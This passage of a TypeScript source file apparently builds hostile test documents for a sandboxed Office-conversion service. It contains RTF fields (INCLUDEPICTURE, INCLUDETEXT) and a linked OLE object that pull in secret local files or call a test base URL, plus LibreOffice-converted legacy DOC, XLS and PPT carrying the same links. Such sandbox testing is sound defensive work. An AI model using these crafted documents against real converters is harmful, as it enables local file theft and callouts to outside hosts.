    content: await odfPackage('application/vnd.oasis.opendocument.presentation', content, styles, eagerLinkSettings()),
  };
}

// ---------------------------------------------------------------- RTF

function rtf(marker: string, body: string): Buffer {
  return Buffer.from(`{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\n${marker}\\par\n${body}}\n`, 'latin1');
}

function rtfField(instruction: string): string {
  return `{\\field{\\*\\fldinst { ${instruction.replace(/\\/g, '\\\\')} }}{\\fldrslt {field}}}\\par\n`;
}

export function hostileRtf(t: HostileTargets): HostileDocument {
  const marker = 'QUIRE-HOSTILE-rtf';
  const url = (vector: string): string => `${t.base}/rtf-${vector}`;
  const body =
    rtfField(`INCLUDEPICTURE "${url('includepicture')}.png" \\d`) +
    rtfField(`INCLUDETEXT "${t.secretText}"`) +
    rtfField(`INCLUDETEXT "${fileUrl(t.secretText)}"`) +
    rtfField(`INCLUDETEXT "${url('includetext')}.txt"`) +
    // A linked OLE object (\\objautlink) with its link source.
    `{\\object\\objautlink\\rsltpict\\objw1000\\objh1000{\\*\\objclass Package}{\\*\\objdata 0105000002000000}{\\*\\linkself ${url('ole')}.xls}{\\result {\\pict\\pngblip\\picw1\\pich1 89504e470d0a1a0a}}}\\par\n`;
  return { name: 'hostile.rtf', marker, content: rtf(marker, body) };
}

/**
 * INCLUDEPICTURE of a local file in RTF: LibreOffice's RTF import opens that file itself, past its
 * settings and its content broker, so only the kernel sandbox (Landlock) keeps it out.
 */
export function hostileRtfPicture(t: HostileTargets): HostileDocument {
  const marker = 'QUIRE-HOSTILE-rtf-picture';
  const body = rtfField(`INCLUDEPICTURE "${fileUrl(t.secretPng)}" \\d`) + rtfField(`INCLUDEPICTURE "${t.secretPng}" \\d`);
  return { name: 'hostile-picture.rtf', marker, content: rtf(marker, body) };
}

/** One document per Office format with every vector of that format (hostileRtfPicture aside). */
export async function hostileDocuments(t: HostileTargets): Promise<HostileDocument[]> {
  return [await hostileDocx(t), await hostileXlsx(t), await hostilePptx(t), await hostileOdt(t), await hostileOds(t), await hostileOdp(t), hostileRtf(t)];
}

// ---------------------------------------------------------------- legacy binary formats (DOC, XLS, PPT)

/** LibreOffice settings for writing the legacy files: links stay absolute (by default it writes them relative). */
const ABSOLUTE_LINKS =
  '<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">' +
  '<item oor:path="/org.openoffice.Office.Common/Save/URL"><prop oor:name="FileSystem" oor:op="fuse"><value>false</value></prop></item>' +
  '<item oor:path="/org.openoffice.Office.Common/Save/URL"><prop oor:name="Internet" oor:op="fuse"><value>false</value></prop></item>' +
  '</oor:items>';

/**
 * DOC, XLS and PPT with the links of the ODT, ODS and ODP above, written by a plain LibreOffice (the
 * binary formats are not something to write by hand). Run it before the secret files exist: the
 * writing LibreOffice follows the links itself and would otherwise keep copies of what they point at.
 */
export async function hostileLegacyDocuments(t: HostileTargets, workDir: string): Promise<HostileDocument[]> {
  const { mkdir, readFile, writeFile } = await import('node:fs/promises');
  const { execFile } = await import('node:child_process');
  const path = await import('node:path');
  const profile = path.join(workDir, 'legacy-profile');
  await mkdir(path.join(profile, 'user'), { recursive: true });
  await writeFile(path.join(profile, 'user', 'registrymodifications.xcu'), ABSOLUTE_LINKS);
  const sources = [await hostileOdt(t), await hostileOds(t), await hostileOdp(t)];
  const targets = ['doc', 'xls', 'ppt'];
  const inputs: string[][] = [];
  for (const [index, source] of sources.entries()) {
    const input = path.join(workDir, `hostile-legacy.${source.name.split('.')[1]}`);
    await writeFile(input, source.content);
    inputs.push([input, targets[index]!]);
  }
  const documents: HostileDocument[] = [];
  for (const [input, target] of inputs) {
    await new Promise<void>((resolve, reject) =>
      execFile(
        '/usr/lib/libreoffice/program/soffice',
        ['--headless', '--norestore', `-env:UserInstallation=file://${profile}`, '--convert-to', target!, '--outdir', workDir, input!],
        { timeout: 120_000 },
        (error) => (error ? reject(error) : resolve()),
      ),
    );
    const name = `hostile-legacy.${target}`;
    const kind = path.extname(input!).slice(1);
    documents.push({ name, marker: `QUIRE-HOSTILE-${kind}`, content: await readFile(path.join(workDir, name)) });
  }
  return documents;
}
